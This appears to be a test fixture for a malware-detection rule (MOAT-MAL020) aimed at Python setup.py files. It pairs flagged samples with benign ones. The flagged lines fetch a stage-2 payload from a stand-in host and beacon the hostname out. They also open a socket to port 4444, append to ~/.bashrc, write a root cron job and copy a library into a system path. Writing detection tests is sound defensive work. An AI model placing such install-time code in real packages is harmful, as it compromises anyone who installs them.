import os
import shutil
import socket
import urllib.request

import requests
from setuptools import setup

# ruleid: MOAT-MAL020
payload = urllib.request.urlopen("https://example.invalid/stage2.py").read()
# ruleid: MOAT-MAL020
requests.get("https://example.invalid/beacon", params={"host": os.uname().nodename})
# ruleid: MOAT-MAL020
connection = socket.socket()
connection.connect(("203.0.113.9", 4444))
# ruleid: MOAT-MAL020
with open(os.path.expanduser("~/.bashrc"), "a") as profile:
    profile.write("python -c 'import evil'\n")
# ruleid: MOAT-MAL020
open("/etc/cron.d/update", "w").write("* * * * * root /tmp/x\n")
# ruleid: MOAT-MAL020
shutil.copy("helper.so", "/usr/local/lib/helper.so")

# ok: MOAT-MAL020
long_description = open("README.md", encoding="utf-8").read()
# ok: MOAT-MAL020
open("build/version.txt", "w").write("1.0\n")
# ok: MOAT-MAL020
shutil.copy("LICENSE", "build/LICENSE")


def fetch_docs():
    # ok: MOAT-MAL020
    return requests.get("https://example.invalid/docs")


setup(name="demo", version="1.0")
